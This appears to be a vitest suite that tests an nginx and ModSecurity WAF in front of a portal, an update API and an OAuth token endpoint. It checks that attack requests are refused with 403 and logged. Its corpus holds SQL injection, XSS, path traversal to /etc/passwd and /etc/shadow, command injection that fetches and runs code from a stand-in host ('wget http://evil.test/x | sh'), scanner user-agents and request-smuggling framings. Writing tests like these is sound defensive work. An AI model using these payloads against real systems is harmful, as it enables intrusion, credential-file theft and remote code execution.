// The WAF at the edge (deploy/nginx: nginx + ModSecurity v3 + OWASP CRS, paranoia level 1):
// attacks on the portal, the update API and the token endpoint are refused with 403 by the WAF
// and written to its audit log, with the CRS rule that matched; malformed framing (request
// smuggling, oversized headers) is refused by nginx with 400 before any app sees it. The same
// requests without the payload reach the app (the controls at the end), so the refusals come
// from the payloads, not from the routes.
import { describe, expect, it } from "vitest";
import { rawRequest, request, uniqueId } from "./edge-client";
import { accessLines, auditEntries, eventually } from "./edge-logs";

interface Attack {
  name: string;
  method: "GET" | "POST";
  target: string;
  headers?: string[];
  body?: string;
  // The CRS rule family (first digits of the rule id) expected to match.
  family: string;
}

const form = "Content-Type: application/x-www-form-urlencoded";
const json = "Content-Type: application/json";
const q = encodeURIComponent;
const tokenBody = (clientId: string) =>
  `grant_type=client_credentials&client_id=${q(clientId)}&client_secret=s3cret`;
const updateBody = (version: string) =>
  JSON.stringify({ product: "acme-agent", version, platform: "linux", arch: "x64" });

const corpus: Attack[] = [
  // SQL injection (942xxx)
  {
    name: "SQLi in a portal query",
    method: "GET",
    target: `/portal?q=${q("1' OR '1'='1' --")}`,
    family: "942",
  },
  {
    name: "SQLi UNION in the update API",
    method: "POST",
    target: "/api/update",
    headers: [json],
    body: updateBody("1.0' UNION SELECT password FROM users--"),
    family: "942",
  },
  {
    name: "SQLi in a token request",
    method: "POST",
    target: "/api/oauth/token",
    headers: [form],
    body: tokenBody("x' OR 1=1;--"),
    family: "942",
  },
  // Cross-site scripting (941xxx)
  {
    name: "XSS in a portal parameter",
    method: "GET",
    target: `/portal/signin?next=${q("<script>alert(document.cookie)</script>")}`,
    family: "941",
  },
  {
    name: "XSS in the update API",
    method: "POST",
    target: "/api/update",
    headers: [json],
    body: updateBody("<img src=x onerror=alert(1)>"),
    family: "941",
  },
  {
    name: "XSS in a token request",
    method: "POST",
    target: "/api/oauth/token",
    headers: [form],
    body: tokenBody("<svg onload=alert(1)>"),
    family: "941",
  },
  // Path traversal / local file inclusion (930xxx)
  {
    name: "path traversal in a portal parameter",
    method: "GET",
    target: `/portal?file=${q("../../../../etc/passwd")}`,
    family: "930",
  },
  {
    name: "OS file access through the update API",
    method: "GET",
    target: `/api/update?manifest=${q("/etc/passwd")}`,
    family: "930",
  },
  {
    name: "traversal in a token request",
    method: "POST",
    target: "/api/oauth/token",
    headers: [form],
    body: tokenBody("../../../etc/shadow"),
    family: "930",
  },
  // Command injection (932xxx)
  {
    name: "command injection in a portal parameter",
    method: "GET",
    target: `/portal?host=${q(";cat /etc/passwd")}`,
    family: "932",
  },
  {
    name: "command substitution in the update API",
    method: "POST",
    target: "/api/update",
    headers: [json],
    body: updateBody("1.0.0; wget http://evil.test/x | sh"),
    family: "932",
  },
  {
    name: "command injection in a token request",
    method: "POST",
    target: "/api/oauth/token",
    headers: [form],
    body: tokenBody("$(curl http://evil.test)"),
    family: "932",
  },
  // Scanners (913xxx)
  {
    name: "sqlmap against the portal",
    method: "GET",
    target: "/portal",
    headers: ["User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)"],
    family: "913",
  },
  {
    name: "nikto against the update API",
    method: "POST",
    target: "/api/update",
    headers: [json, "User-Agent: Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"],
    body: updateBody("1.0.0"),
    family: "913",
  },
  {
    name: "nuclei against the token endpoint",
    method: "POST",
    target: "/api/oauth/token",
    headers: [
      form,
      "User-Agent: Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    ],
    body: tokenBody("agent"),
    family: "913",
  },
];

describe("the WAF refuses attacks and logs them", () => {
  it.each(corpus)("$name → 403, audit log names a $family rule", async (attack) => {
    const id = uniqueId("attack");
    const response = await request(attack.method, attack.target, {
      headers: [`X-Request-Id: ${id}`, ...(attack.headers ?? [])],
      body: attack.body,
    });
    expect(response.status).toBe(403);
    const entry = await eventually(
      () => auditEntries().find((e) => e.requestId === id),
      `audit entry for ${id}`,
    );
    expect(entry.status).toBe(403);
    expect(entry.ruleIds.some((r) => r.startsWith(attack.family))).toBe(true);
    // The anomaly score decides: the blocking evaluation rule is logged too.
    expect(entry.ruleIds).toContain("949110");
  });
});

// Framing attacks never reach ModSecurity: nginx refuses them while reading the request, and
// its access log records the refusal (the request never got an upstream).
describe("nginx refuses malformed framing", () => {
  const host = () => `Host: localhost`;
  const framing: { name: string; head: () => string; body: string; status: number[] }[] = [
    {
      name: "Content-Length and Transfer-Encoding together (CL.TE smuggling)",
      head: () =>
        [
          `POST /api/update HTTP/1.1`,
          host(),
          json,
          "Content-Length: 6",
          "Transfer-Encoding: chunked",
        ].join("\n"),
      body: "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n",
      status: [400],
    },
    {
      name: "two Content-Length headers",
      head: () =>
        [
          `POST /api/oauth/token HTTP/1.1`,
          host(),
          form,
          "Content-Length: 5",
          "Content-Length: 40",
        ].join("\n"),
      body: "a=b&c",
      status: [400],
    },
    {
      name: "an obfuscated Transfer-Encoding",
      head: () =>
        [`POST /portal HTTP/1.1`, host(), "Transfer-Encoding: xchunked", "Content-Length: 3"].join(
          "\n",
        ),
      body: "abc",
      status: [400, 501],
    },
    {
      name: "an oversized header (buffer overflow probing)",
      head: () => [`GET /portal HTTP/1.1`, host(), `X-Pad: ${"A".repeat(40_000)}`].join("\n"),
      body: "",
      status: [400],
    },
  ];

  it.each(framing)("$name → refused, logged, no upstream", async (attack) => {
    const before = accessLines().length;
    const response = await rawRequest(attack.head(), attack.body);
    expect(attack.status).toContain(response.status);
    const line = await eventually(
      () =>
        accessLines()
          .slice(before)
          .find((l) => l.includes(` ${response.status} `)),
      `access log line with ${response.status}`,
    );
    expect(line).toContain('upstream="-"');
  });
});

describe("the same routes without a payload reach the app", () => {
  it("portal sign-in page", async () => {
    expect((await request("GET", "/portal/signin?next=%2Fportal")).status).toBe(200);
  });
  it("update API without a token: the app's 401", async () => {
    const response = await request("POST", "/api/update", {
      headers: [json],
      body: updateBody("1.2.3"),
    });
    expect(response.status).toBe(401);
    expect(response.headers["content-type"]).toContain("application/problem+json");
  });
  it("token endpoint with unknown credentials: the app's 401", async () => {
    const response = await request("POST", "/api/oauth/token", {
      headers: [form, `X-Forwarded-For: ${"198.51.100." + Math.floor(Math.random() * 250)}`],
      body: tokenBody("no-such-client"),
    });
    expect(response.status).toBe(401);
  });
});
